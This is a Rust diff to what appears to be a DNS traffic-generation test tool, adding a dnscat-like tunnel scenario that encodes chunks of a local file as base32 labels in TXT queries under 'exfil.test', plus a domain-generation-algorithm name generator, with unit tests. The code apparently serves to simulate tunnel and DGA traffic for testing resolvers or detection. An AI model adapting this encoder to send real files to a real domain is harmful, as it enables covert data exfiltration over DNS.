@@ -23,6 +23,8 @@ use serde::Serialize;
 pub enum Qtype {
     A,
     Aaaa,
+    /// What DNS tunnels ask for: the answer carries the reply data.
+    Txt,
 }
 
 /// splitmix64: tiny, fast and good enough to pick names and labels. Not for secrets.
@@ -100,7 +102,26 @@ pub enum NameMix {
     /// Names outside the cluster, each with a fresh random first label, so a
     /// forwarder cannot answer them from its cache and must ask its upstream.
     Forwarded,
+    /// A dnscat-like tunnel: TXT questions whose labels are base32 chunks of `payload`
+    /// (a local file) under [`TUNNEL_DOMAIN`], each with a sequence label.
+    Tunnel {
+        /// Where the payload came from, for --list and the report.
+        source: String,
+        #[serde(skip)]
+        payload: std::sync::Arc<[u8]>,
+    },
+    /// A domain-generation algorithm: random second-level names (10 to 16 letters)
+    /// under the RFC 6761 `test` TLD, which no resolver should send upstream.
+    Dga,
 }
+
+/// The registered domain the tunnel's names end in (RFC 6761 `test`: never delegated).
+pub const TUNNEL_DOMAIN: &str = "exfil.test";
+/// The TLD the DGA's random names end in.
+pub const DGA_TLD: &str = "test";
+/// Payload bytes per tunnel question: 70 bytes are 112 base32 characters, two labels
+/// of 56 (labels may hold 63).
+const TUNNEL_CHUNK: usize = 70;
 
 /// The large answer the truncation scenario asks for: a headless service whose A
 /// records (one per pod) do not fit in a 512-byte UDP answer.
@@ -135,6 +156,15 @@ impl NameMix {
                 format!("{}.{ext}.", rng.label(10))
             }
             NameMix::Existing { domain } => existing(rng, domain),
+            NameMix::Tunnel { payload, .. } => return (tunnel_name(rng, payload), Qtype::Txt),
+            NameMix::Dga => {
+                let len = 10 + rng.below(7) as usize;
+                const LETTERS: &[u8] = b"abcdefghijklmnopqrstuvwxyz";
+                let label: String = (0..len)
+                    .map(|_| LETTERS[rng.below(26) as usize] as char)
+                    .collect();
+                format!("{label}.{DGA_TLD}.")
+            }
             NameMix::Cluster { domain } => match rng.below(100) {
                 0..50 => existing(rng, domain),
                 50..85 => {
@@ -179,6 +209,14 @@ impl NameMix {
             NameMix::Existing { domain } => {
                 format!("existing services under {domain} only")
             }
+            NameMix::Tunnel { source, .. } => format!(
+                "TXT questions for <seq>.<56 base32>.<56 base32>.t.{TUNNEL_DOMAIN}., the labels \
+                 {TUNNEL_CHUNK}-byte chunks of {source}"
+            ),
+            NameMix::Dga => format!(
+                "random second-level names of 10-16 letters under .{DGA_TLD} (NXDOMAIN from a \
+                 resolver that honours RFC 6761)"
+            ),
             NameMix::RandomSubdomains {
                 domain,
                 percent_random,
@@ -186,6 +224,54 @@ impl NameMix {
                 "{percent_random}% random names under svc.{domain} (NXDOMAIN), the rest existing \
                  services"
             ),
+        }
+    }
+}
+
+/// One tunnel question: a random sequence label and a chunk of the payload at a random
+/// offset, base32 (RFC 4648, lower case, no padding) in two labels.
+fn tunnel_name(rng: &mut Rng, payload: &[u8]) -> String {
+    let seq = rng.next_u64() as u32;
+    let chunk: Vec<u8> = if payload.len() >= TUNNEL_CHUNK {
+        let at = rng.below((payload.len() - TUNNEL_CHUNK + 1) as u64) as usize;
+        payload[at..at + TUNNEL_CHUNK].to_vec()
+    } else {
+        (0..TUNNEL_CHUNK).map(|_| rng.next_u64() as u8).collect()
+    };
+    let b32 = data_encoding::BASE32_NOPAD
+        .encode(&chunk)
+        .to_ascii_lowercase();
+    let (a, b) = b32.split_at(b32.len() / 2);
+    format!("{seq:08x}.{a}.{b}.t.{TUNNEL_DOMAIN}.")
+}
+
+/// The tunnel's payload: the first 256 KiB of the running executable (a local file
+/// nobody minds sending to loopback, the same on every run), encrypted as real tunnels
+/// send it (dnscat2 uses Salsa20; here a seeded keystream XOR stands in: an executable
+/// is mostly zeros, which no tunnel sends as they are).
+pub fn tunnel_payload() -> (String, std::sync::Arc<[u8]>) {
+    use std::io::Read;
+    let mut buf = Vec::new();
+    let read =
+        std::fs::File::open("/proc/self/exe").and_then(|f| f.take(256 << 10).read_to_end(&mut buf));
+    let source = match read {
+        Ok(_) if buf.len() >= TUNNEL_CHUNK => "the dnsdoc executable, encrypted",
+        _ => {
+            buf = vec![0; 4096];
+            "4 KiB of zeros, encrypted"
+        }
+    };
+    keystream_xor(&mut buf);
+    (source.into(), buf.into())
+}
+
+/// XORs `data` with a keystream seeded by a constant: applying it twice gives `data`.
+pub fn keystream_xor(data: &mut [u8]) {
+    let mut rng = Rng::new(0x7475_6e6e_656c);
+    for chunk in data.chunks_mut(8) {
+        let k = rng.next_u64().to_le_bytes();
+        for (b, k) in chunk.iter_mut().zip(k) {
+            *b ^= k;
         }
     }
 }
@@ -293,6 +379,51 @@ mod tests {
         assert!(f
             .iter()
             .all(|(n, _)| !n.contains("cluster.local") && n.ends_with('.')));
+    }
+
+    #[test]
+    fn tunnel_names_carry_base32_chunks_in_long_labels_of_txt_questions() {
+        let (source, payload) = tunnel_payload();
+        assert_eq!(source, "the dnsdoc executable, encrypted");
+        // Decrypted, the payload is the executable itself.
+        let mut plain = payload.to_vec();
+        keystream_xor(&mut plain);
+        assert_eq!(&plain[..4], b"\x7fELF");
+        let mix = NameMix::Tunnel {
+            source,
+            payload: payload.clone(),
+        };
+        let s = sample(&mix, 300);
+        let distinct: std::collections::HashSet<_> = s.iter().map(|(n, _)| n).collect();
+        assert_eq!(distinct.len(), 300);
+        for (n, q) in &s {
+            assert_eq!(*q, Qtype::Txt);
+            let labels: Vec<&str> = n.trim_end_matches('.').split('.').collect();
+            assert_eq!(labels.len(), 6, "{n}");
+            assert_eq!((labels[1].len(), labels[2].len()), (56, 56), "{n}");
+            assert!(n.ends_with(".t.exfil.test."), "{n}");
+            // The labels decode back to a chunk of the file.
+            let data = data_encoding::BASE32_NOPAD
+                .decode(
+                    format!("{}{}", labels[1], labels[2])
+                        .to_ascii_uppercase()
+                        .as_bytes(),
+                )
+                .unwrap();
+            assert!(payload.windows(data.len()).any(|w| w == data), "{n}");
+        }
+    }
+
+    #[test]
+    fn dga_names_are_random_second_level_names_under_test() {
+        let s = sample(&NameMix::Dga, 500);
+        let distinct: std::collections::HashSet<_> = s.iter().map(|(n, _)| n).collect();
+        assert!(distinct.len() >= 499);
+        for (n, _) in &s {
+            let label = n.strip_suffix(".test.").unwrap();
+            assert!((10..=16).contains(&label.len()), "{n}");
+            assert!(label.bytes().all(|b| b.is_ascii_lowercase()), "{n}");
+        }
     }
 
     #[test]
